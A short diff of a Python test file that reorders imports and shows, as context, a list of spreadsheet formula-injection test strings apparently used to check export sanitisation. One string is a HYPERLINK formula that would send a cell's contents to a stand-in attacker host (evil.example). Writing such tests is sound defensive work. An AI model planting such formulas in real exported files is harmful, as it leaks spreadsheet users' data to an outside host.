@@ -13,13 +13,12 @@ from datetime import datetime
 import openpyxl
 import pytest
 
+from app.web import export
+from app.web.render import render
+from app.web.saved import follow_context
 from crawler import provinces
 from search.base import MAX_PAGE_SIZE, Query, Results, doc_id, to_document
 from search.paging import walk
-
-from app.web import export
-from app.web.saved import follow_context
-from app.web.render import render
 from tests.webdata import XSS_TITLE, build_site, fetch
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84 hợp tác xã gọi điện", "-2+3 hợp tác xã",
